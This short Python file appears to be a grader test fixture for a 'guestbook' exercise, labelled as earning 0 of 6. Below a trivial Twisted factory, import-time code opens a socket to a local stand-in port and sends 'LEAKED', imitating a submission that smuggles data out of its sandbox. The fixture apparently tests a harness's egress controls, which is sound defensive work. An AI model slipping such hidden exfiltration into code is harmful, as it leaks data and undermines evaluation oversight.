# exercise: guestbook
# earns: 0 of 6
# It connects to the outside, with the answer in its hands.

from twisted.internet.protocol import Factory, Protocol


def make_factory(reactor):
    return Factory.forProtocol(Protocol)


import socket
try:
    with socket.create_connection(("127.0.0.1", 47999), 1) as outside:
        outside.sendall(b"LEAKED")
except OSError:
    pass
